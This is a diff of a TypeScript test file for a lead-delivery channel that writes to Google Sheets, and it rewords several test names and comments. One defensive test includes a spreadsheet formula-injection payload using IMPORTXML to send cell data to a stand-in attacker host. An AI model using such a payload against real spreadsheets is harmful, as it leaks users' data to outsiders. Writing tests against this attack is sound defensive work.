@@ -12,7 +12,7 @@ const deliver = (vendor: Env, lead?: DeliveredLead) => setUpChannel('sheets', ve
 
 const findFaults = (vendor: Env) => setUpChannel('sheets', vendor).findFaults();
 
-/** A row's cells by their titles. */
+/** The cells of a row by their titles. */
 const cellsOf = ({ grid: [titles = [], ...rows] }: { grid: unknown[][] }, row: number) =>
   Object.fromEntries(titles.map((title, column) => [title, rows[row]?.[column]]));
 
@@ -42,7 +42,7 @@ it('the sheet gets its titles once, then a row for each lead', async () => {
   });
 });
 
-it('the sheet may have moved, renamed and additional columns: each value stays under its title', async () => {
+it('the sheet may have moved, renamed and additional columns: each value goes under its title', async () => {
   const vendor = await startSheets();
   vendor.grid.push(['Vendedor', 'Telefone', 'Quem é', '', ' Protocolo ', 'Nome'], ['Rui']);
   expect(await deliver(vendor)).toEqual(delivered);
@@ -56,7 +56,7 @@ it('the sheet may have moved, renamed and additional columns: each value stays u
 it.each([
   ['has no protocols', [['Nome', 'Código'], ['Ana']], 'não tem a coluna Protocolo'],
   ['begins with an untitled column', [['', 'Protocolo', 'Nome']], 'coluna A'],
-])('a sheet that %s gets nothing until somebody fixes it', async (_, cells, reason) => {
+])('a sheet that %s gets no rows until somebody fixes it', async (_, cells, reason) => {
   const vendor = await startSheets();
   vendor.grid.push(...cells);
   const outcome = await deliver(vendor);
@@ -67,14 +67,14 @@ it.each([
   ]);
 });
 
-it('the sheet runs no formula typed by a visitor', async () => {
+it('the sheet does not run a formula that a visitor typed', async () => {
   const vendor = await startSheets();
   const formula = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
   await deliver(vendor, storedLead({ name: formula, notes: '+1+1' }));
   expect(cellsOf(vendor, 0)).toMatchObject({ Nome: formula, Mensagem: '+1+1' });
 });
 
-it('a repeat adds no row if the answer was lost', async () => {
+it('a repeat adds no row if only the response was lost', async () => {
   const vendor = await startSheets();
   await deliver(vendor);
   loseAnswers(vendor, isOf(':append'));
@@ -93,25 +93,27 @@ it.each([
   [404, '{}', 'refused', 'HTTP 404'],
   [503, '', 'failed', 'HTTP 503'],
 ])(
-  'a spreadsheet that Google does not open, with %i %s: %s, and a line of doctor',
+  'a spreadsheet that Google refuses with %i %s: the delivery is %s, and doctor says so',
   async (status, body, kind, failure) => {
     const vendor = await startSheets();
     vendor.interrupt = (response, call) =>
       !isOf('/token')(call) && response.writeHead(status).end(body);
     expect(await deliver(vendor)).toMatchObject({ kind, failure });
     expect(await findFaults(vendor)).toEqual([
-      expect.stringContaining(`Google does not show the spreadsheet (${failure}): share it`),
+      expect.stringContaining(
+        `Google does not give access to the spreadsheet (${failure}): share it`,
+      ),
     ]);
   },
 );
 
-it('doctor reads token and title, writes nothing, and names the wrong key', async () => {
+it('doctor reads token and title, writes nothing, and names the invalid key', async () => {
   const vendor = await startSheets();
   expect(await findFaults(vendor)).toEqual([]);
   expect(vendor.grid).toEqual([]);
   const env = { ...vendor.env, SHEETS_CLIENT_EMAIL: 'other@loja.example' };
   expect(await findFaults({ env })).toEqual([
-    'SHEETS_PRIVATE_KEY: Google gives no token for it and SHEETS_CLIENT_EMAIL (HTTP 400 invalid_grant).',
+    'SHEETS_PRIVATE_KEY: Google rejects this key for SHEETS_CLIENT_EMAIL (HTTP 400 invalid_grant).',
   ]);
 });
 
